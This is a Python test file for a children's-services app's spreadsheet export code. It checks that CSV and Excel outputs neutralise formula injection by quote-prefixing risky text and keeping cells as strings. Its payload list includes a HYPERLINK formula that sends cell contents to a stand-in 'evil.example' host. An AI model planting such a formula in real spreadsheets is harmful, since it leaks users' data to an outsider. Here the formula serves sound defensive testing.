"""Spreadsheets keep people's text as text (issue 12, finding 2)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from childfirst.ui.spreadsheets import (
    csv_safe,
    csv_writer,
    risky,
    styled,
    workbook_bytes,
    write_only_sheet,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_each_way_a_formula_can_start_is_caught(text):
    assert risky(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Good", "", "Case CF-1 = 2", "-3", "+2.5", "1e-5", 7, -3, None])
def test_ordinary_text_and_numbers_are_left_as_they_are(value):
    assert not risky(value)
    assert csv_safe(value) == value


def test_a_workbook_holds_no_formula_and_each_risky_cell_is_quote_prefixed():
    book = Workbook()
    book.active.append([*PAYLOADS, "Good", -3, 2.5])
    data = workbook_bytes(book)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    cells = next(load_workbook(io.BytesIO(data)).active.iter_rows())
    # (XML keeps a carriage return as a line feed.)
    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS] + ["Good", -3, 2.5]
    assert [c.data_type for c in cells] == ["s"] * 8 + ["n", "n"]
    assert [c.quotePrefix for c in cells] == [True] * 7 + [False] * 3


def test_a_write_only_sheet_keeps_text_as_text_as_its_rows_go_in():
    book = Workbook(write_only=True)
    sheet = write_only_sheet(book, "Answers")
    sheet.append([*PAYLOADS, "Good", -3, 2.5])
    bold = Font(bold=True)
    sheet.append([styled(sheet, "=1+1", font=bold), styled(sheet, "Plain", font=bold), "", None, 4])
    data = workbook_bytes(book)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    first, second = load_workbook(io.BytesIO(data))["Answers"].iter_rows()
    assert [c.value for c in first] == [p.replace("\r", "\n") for p in PAYLOADS] + ["Good", -3, 2.5]
    assert [c.data_type for c in first] == ["s"] * 8 + ["n", "n"]
    assert [c.quotePrefix for c in first] == [True] * 7 + [False] * 3
    # A styled cell is guarded too and keeps its style; an empty string is an empty cell.
    assert [c.value for c in second[:5]] == ["=1+1", "Plain", None, None, 4]
    assert [(c.data_type, c.quotePrefix, c.font.b) for c in second[:2]] == [
        ("s", True, True),
        ("s", False, True),
    ]


def test_a_write_only_sheet_made_otherwise_is_refused():
    book = Workbook(write_only=True)
    book.create_sheet("Unguarded")
    with pytest.raises(ValueError, match="Unguarded"):
        workbook_bytes(book)
    with pytest.raises(TypeError):
        write_only_sheet(Workbook(), "Normal")


def test_a_write_only_workbook_saved_at_a_given_time_is_the_same_bytes(monkeypatch):
    def make():
        book = Workbook(write_only=True)
        write_only_sheet(book, "KPI").append(["KPI 1", 2, 3])
        return workbook_bytes(book, saved_at=dt.datetime(2024, 4, 1))

    assert _saved_a_day_later(monkeypatch, make) == make()


def test_csv_rows_neutralise_risky_text_only():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+2", "North team", -3, "-3"])
    writer.writerows([["@x", 1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+2", "North team", "-3", "-3"],
        ["'@x", "1"],
    ]


class _LaterClock:
    """Stands in for the ``datetime`` and ``time`` modules openpyxl and zipfile read the
    clock through: a day and an hour later than now."""

    def __init__(self, real):
        self._real = real

    def __getattr__(self, name):
        return getattr(self._real, name)


def _saved_a_day_later(monkeypatch, make):
    import datetime as real_datetime
    import time as real_time

    import openpyxl.writer.excel

    later = real_datetime.timedelta(days=1, hours=1)
    clock = _LaterClock(real_datetime)
    clock.datetime = type(
        "datetime",
        (real_datetime.datetime,),
        {"now": classmethod(lambda cls, tz=None: real_datetime.datetime.now(tz) + later)},
    )
    ticks = _LaterClock(real_time)
    ticks.time = lambda: real_time.time() + later.total_seconds()
    with monkeypatch.context() as patched:
        patched.setattr(openpyxl.writer.excel, "datetime", clock)
        patched.setattr(zipfile, "time", ticks)
        return make()


def _book():
    book = Workbook()
    book.active.append(["KPI 1", 2, 3])
    return book


def test_a_workbook_saved_at_a_given_time_is_the_same_bytes_whenever_it_is_saved(monkeypatch):
    when = dt.datetime(2024, 4, 1)
    now = workbook_bytes(_book(), saved_at=when)
    assert _saved_a_day_later(monkeypatch, lambda: workbook_bytes(_book(), saved_at=when)) == now
    with zipfile.ZipFile(io.BytesIO(now)) as package:
        assert {part.date_time for part in package.infolist()} == {(2024, 4, 1, 0, 0, 0)}
        core = package.read("docProps/core.xml").decode()
    assert core.count("2024-04-01T00:00:00Z") == 2  # created and modified
    assert load_workbook(io.BytesIO(now)).active["B1"].value == 2
    # Without a time of its own, a workbook carries the clock's: the later save differs.
    plain = workbook_bytes(_book())
    assert _saved_a_day_later(monkeypatch, lambda: workbook_bytes(_book())) != plain
